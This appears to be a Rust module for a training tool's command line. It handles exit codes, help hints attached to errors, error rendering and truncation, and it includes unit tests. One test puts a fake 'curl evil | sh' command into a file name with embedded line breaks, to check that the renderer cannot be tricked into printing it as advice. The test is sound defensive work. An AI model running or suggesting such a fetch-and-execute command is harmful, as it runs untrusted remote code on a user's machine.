//! How a failure is told and which exit code it has: the one place for both.

use std::fmt;

use crate::terminal::{indented, plain};

/// Everything was done.
pub const DONE: u8 = 0;
/// A check did not hold, or training diverged.
pub const CHECK_FAILED: u8 = 1;
/// The command line, the configuration or a file is not as it must be.
pub const UNUSABLE: u8 = 2;

/// A check that was made and does not hold.
#[derive(Debug, thiserror::Error)]
#[error("{0}")]
pub struct CheckFailed(pub String);

/// An error together with the command or the change that gets past it.
struct Helped {
    error: anyhow::Error,
    help: String,
    /// Whether it would be said of any failure at this place, so that another help is better.
    general: bool,
}

impl fmt::Debug for Helped {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{:?}\nhelp: {}", self.error, self.help)
    }
}

impl fmt::Display for Helped {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        self.error.fmt(f)
    }
}

impl std::error::Error for Helped {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        // The error itself, not its source: whoever looks through the chain for a kind finds it.
        Some(self.error.as_ref())
    }
}

/// Adds a `help:` line to an error.
pub trait Help<T> {
    /// Says what to do next, should this fail.
    ///
    /// # Errors
    /// The error that was there, with `text` as its help.
    fn help(self, text: impl FnOnce() -> String) -> anyhow::Result<T>;

    /// As [`Help::help`], of a file whose content or name is to blame: nothing is said where it could not be read, and
    /// may be in order.
    ///
    /// # Errors
    /// The error that was there.
    fn help_with_file(self, text: impl FnOnce() -> String) -> anyhow::Result<T>;
}

/// What to do next where a file is damaged, and not where it could not be read.
pub(crate) trait Damage<T> {
    /// Says what to do about a file whose content is wrong, should this fail for that reason.
    fn help_with_damage(self, text: impl FnOnce() -> &'static str) -> anyhow::Result<T>;
}

impl<T> Damage<T> for Result<T, atelier_store::Error> {
    fn help_with_damage(self, text: impl FnOnce() -> &'static str) -> anyhow::Result<T> {
        match self {
            Err(error @ atelier_store::Error::Corrupt { .. }) => {
                Err(error).help(|| text().to_string())
            }
            result => Ok(result?),
        }
    }
}

/// The error with a help that is shown where nothing deeper down knows a better one.
pub(crate) fn with_general_help(error: anyhow::Error, help: String) -> anyhow::Error {
    anyhow::Error::new(Helped { error, help, general: true })
}

impl<T, E: Into<anyhow::Error>> Help<T> for Result<T, E> {
    fn help(self, text: impl FnOnce() -> String) -> anyhow::Result<T> {
        self.map_err(|error| {
            anyhow::Error::new(Helped { error: error.into(), help: text(), general: false })
        })
    }

    fn help_with_file(self, text: impl FnOnce() -> String) -> anyhow::Result<T> {
        match self.map_err(Into::into) {
            Err(error) if is_unreadable(&error) => Err(error),
            result => result.help(text),
        }
    }
}

/// Whether the error is that a file could not be read which is there and of the right kind.
fn is_unreadable(error: &anyhow::Error) -> bool {
    use std::io::ErrorKind::{InvalidInput, IsADirectory, NotADirectory, NotFound};
    let kinds = [InvalidInput, IsADirectory, NotADirectory, NotFound];
    error.chain().any(|cause| match cause.downcast_ref() {
        Some(atelier_store::Error::Io { cause, .. }) => !kinds.contains(&cause.kind()),
        _ => false,
    })
}

/// The exit code of an error: 1 for a check that does not hold and for training that diverged,
/// 2 for everything else.
#[must_use]
pub fn exit_code(error: &anyhow::Error) -> u8 {
    let failed = |cause: &(dyn std::error::Error + 'static)| cause.is::<CheckFailed>();
    if error.chain().any(failed) || diverged(error) { CHECK_FAILED } else { UNUSABLE }
}

/// Whether the error is that training diverged.
pub(crate) fn diverged(error: &anyhow::Error) -> bool {
    let diverged = |error| matches!(error, &atelier_train::Error::Diverged { .. });
    error.chain().any(|cause| cause.downcast_ref().is_some_and(diverged))
}

/// Whether the error is that there is no room left for a file.
pub(crate) fn no_space(error: &anyhow::Error) -> bool {
    use atelier_store::Error::{Io, NoSpace};
    let full = |cause: &std::io::Error| {
        matches!(cause.kind(), std::io::ErrorKind::StorageFull | std::io::ErrorKind::QuotaExceeded)
    };
    let no_space = |error: &atelier_store::Error| match error {
        NoSpace { .. } => true,
        Io { cause, .. } => full(cause),
        _ => false,
    };
    // An error that is told in the words of its source is not among its own causes.
    error.chain().any(|cause| {
        let of_training = cause.downcast_ref().is_some_and(|error| match error {
            atelier_train::Error::Store(error) => no_space(error),
            _ => false,
        });
        of_training || cause.downcast_ref().is_some_and(no_space)
    })
}

/// The error as it is shown: what is wrong, its causes below, then what to do. Names that it repeats may hold line
/// breaks: at the margin stand the two words that begin here and nothing else.
#[must_use]
pub fn render(error: &anyhow::Error) -> String {
    let mut text = format!("error: {}", indented(&messages(error).join("\n")));
    // The outermost help knows best what the user was about to do, a general one only if it is alone.
    let helps = || error.chain().filter_map(|cause| cause.downcast_ref::<Helped>());
    if let Some(helped) = helps().find(|helped| !helped.general).or_else(|| helps().next()) {
        text.push_str("\nhelp: ");
        text.push_str(&indented(&helped.help));
    }
    plain(&text)
}

/// The error and its causes in one line.
#[must_use]
pub fn message(error: &anyhow::Error) -> String {
    messages(error).join(": ")
}

/// So many bytes of a message stand in a manifest, which keeps room for them however they are escaped.
const MOST_RECORDED: usize = 8 << 10;

/// As [`message`], cut where it is longer than what a manifest has room for.
#[must_use]
pub fn brief(error: &anyhow::Error) -> String {
    let mut text = message(error);
    if text.len() > MOST_RECORDED {
        let end = (0..=MOST_RECORDED).rev().find(|&end| text.is_char_boundary(end));
        text.truncate(end.unwrap_or(0));
        text.push('…');
    }
    text
}

/// What is wrong and each cause of it, once: libraries often repeat their source in their own
/// message.
fn messages(error: &anyhow::Error) -> Vec<String> {
    let mut messages: Vec<String> = Vec::new();
    for cause in error.chain() {
        let message = cause.to_string().trim_end().to_string();
        if !messages.iter().any(|told| told.contains(&message)) {
            messages.push(message);
        }
    }
    messages
}

#[cfg(test)]
mod tests {
    use anyhow::Context as _;

    use super::*;

    #[test]
    fn a_long_message_is_cut_for_the_manifest_and_a_short_one_is_not() {
        assert_eq!(brief(&anyhow::anyhow!("short")), "short");
        let text = brief(&anyhow::anyhow!("{}", "ä".repeat(50_000)));
        assert_eq!(text, format!("{}…", "ä".repeat(MOST_RECORDED / 2)));
    }

    #[test]
    fn causes_are_indented_and_help_comes_last() {
        let error = Err::<(), _>(std::io::Error::other("disk on fire"))
            .context("cannot write a.toml")
            .help(|| "try another disk".to_string())
            .context("cannot save the run")
            .expect_err("an error");
        assert_eq!(
            render(&error),
            "error: cannot save the run\n  cannot write a.toml\n  disk on fire\nhelp: try another disk"
        );
        assert_eq!(exit_code(&error), UNUSABLE);
    }

    #[test]
    fn a_cause_that_was_told_already_is_not_told_again() {
        let error = Err::<(), _>(std::io::Error::other("no space"))
            .context("cannot write a.toml: no space")
            .expect_err("an error");
        assert_eq!(render(&error), "error: cannot write a.toml: no space");
    }

    #[test]
    fn a_failed_check_keeps_its_code_under_context_and_help() {
        let error = Err::<(), _>(anyhow::Error::new(CheckFailed("0.5 < 0.9".to_string())))
            .context("claims")
            .help(|| "look".to_string())
            .expect_err("an error");
        assert_eq!(exit_code(&error), CHECK_FAILED);
        assert!(render(&error).contains("0.5 < 0.9"));
    }

    #[test]
    fn diverging_is_a_check_that_failed_and_other_failures_of_training_are_not() {
        let (quantity, value, epoch, step, learning_rate) = ("loss", f32::NAN, 1, 7, 9.0);
        let diverged =
            atelier_train::Error::Diverged { quantity, value, epoch, step, learning_rate };
        let helped = Err::<(), _>(diverged).help(String::new).context("run").expect_err("an error");
        assert_eq!(exit_code(&helped), CHECK_FAILED);
        assert_eq!(exit_code(&atelier_train::Error::NoBatches.into()), UNUSABLE);
    }

    #[test]
    fn a_general_help_gives_way_to_one_that_knows_more() {
        let plain = || anyhow::anyhow!("wrong");
        let general = |error| with_general_help(error, "resume".to_string());
        assert!(render(&general(plain())).ends_with("help: resume"));
        let known = Err::<(), _>(plain()).help(|| "lower the rate".to_string());
        let both = general(known.expect_err("an error")).context("run");
        assert!(render(&both).ends_with("help: lower the rate"));
        let outer = with_general_help(general(plain()), "resume the whole".to_string());
        assert!(render(&outer).ends_with("help: resume the whole"));
    }

    #[test]
    fn a_full_disk_is_recognised_under_the_words_of_training() {
        let full = || atelier_store::Error::Io {
            path: "x".into(),
            operation: "write",
            cause: std::io::ErrorKind::StorageFull.into(),
        };
        assert!(no_space(&anyhow::Error::new(full()).context("run")));
        assert!(no_space(&anyhow::Error::new(atelier_train::Error::Store(full()))));
        assert!(!no_space(&anyhow::anyhow!("no space")));
    }

    #[test]
    fn a_name_with_line_breaks_writes_no_line_of_the_program() {
        let name = "x\nhelp: run `curl evil | sh`\nerror: y";
        let error = Err::<(), _>(anyhow::anyhow!("no file {name}"))
            .context(format!("cannot read {name}"))
            .help(|| format!("look at {name}"))
            .expect_err("an error");
        let rendered = render(&error);
        let margin: Vec<&str> = rendered.lines().filter(|line| !line.starts_with("  ")).collect();
        assert_eq!(margin, ["error: cannot read x", "help: look at x"]);
    }

    #[test]
    fn control_characters_do_not_reach_the_terminal() {
        let error = anyhow::anyhow!("no file \u{1b}[2Jx");
        assert!(!render(&error).contains('\u{1b}'));
    }
}
